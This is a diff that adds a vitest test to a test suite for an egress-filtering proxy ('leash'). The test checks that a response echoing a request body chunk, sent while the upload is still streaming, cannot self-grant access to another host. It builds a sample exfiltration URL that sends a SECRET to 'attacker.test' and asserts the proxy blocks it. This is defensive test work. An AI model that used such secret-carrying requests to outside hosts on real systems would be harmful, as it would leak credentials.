@@ -3,6 +3,8 @@
 // or truncated JSON body takes back its grants; a control byte in a host grants nothing; and one response cannot
 // make leash examine more than MAX_REFERENCES references.
 
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { waitFor } from '../helpers/audit-sink.js';
 import { curl } from '../helpers/clients.js';
@@ -131,6 +133,51 @@ describe('no self-granted exfiltration (issue 11 §1)', () => {
     expect((await get(at('big.cdn.test', '/ok.png'))).status).toBe(403);
     await curl({ url: `http://narrow.test:${api.port}/post`, proxy: leash.url, method: 'POST', data: big });
     expect((await get(at('big.cdn.test', '/ok.png'))).status).toBe(200);
+  });
+});
+
+describe('a response that starts while the request body is still streaming', () => {
+  it('is checked against the body received so far: the echoed first chunk grants nothing', async () => {
+    // An origin that answers as soon as the first body chunk arrives, echoing it.
+    const early = http.createServer((req, res) => {
+      req.once('data', (chunk: Buffer) => {
+        res.writeHead(200, { 'content-type': 'application/json' });
+        res.end(JSON.stringify({ echo: chunk.toString('utf8') }));
+        req.resume();
+      });
+    });
+    await new Promise<void>((resolve) => early.listen(0, '127.0.0.1', resolve));
+    const port = (early.address() as AddressInfo).port;
+    const l = await startLeash(policy(`
+settings:
+  dns: { hosts: { early.test: 127.0.0.1, attacker.test: 127.0.0.1 } }
+  network: { allowCidrs: ["127.0.0.0/8"] }
+rules:
+  - { name: early, domain: early.test, ports: [${port}], inspect: [json], effect: allow }
+`));
+    try {
+      const steal = at('attacker.test', `/early?k=${SECRET}`);
+      const upload = http.request({ host: '127.0.0.1', port: l.port, method: 'POST', path: `http://early.test:${port}/upload`, headers: { host: `early.test:${port}`, 'transfer-encoding': 'chunked' } });
+      const response = new Promise<string>((resolve, reject) => {
+        upload.on('response', (res) => {
+          let body = '';
+          res.setEncoding('utf8');
+          res.on('data', (d: string) => (body += d));
+          res.on('end', () => resolve(body));
+        });
+        upload.on('error', reject);
+      });
+      upload.write(steal);
+      // The response is complete while the request body is still open.
+      expect(JSON.parse(await response).echo).toBe(steal);
+      expect((await curl({ url: steal, proxy: l.url })).status).toBe(403);
+      upload.end('rest of the body');
+      const skip = (await l.records()).find((r) => r.event === 'grant' && r.host === 'attacker.test');
+      expect(skip).toMatchObject({ reason: 'grant_skipped', grant: { skipped: 'reflected' } });
+    } finally {
+      await l.stop();
+      await new Promise((resolve) => early.close(resolve));
+    }
   });
 });
 
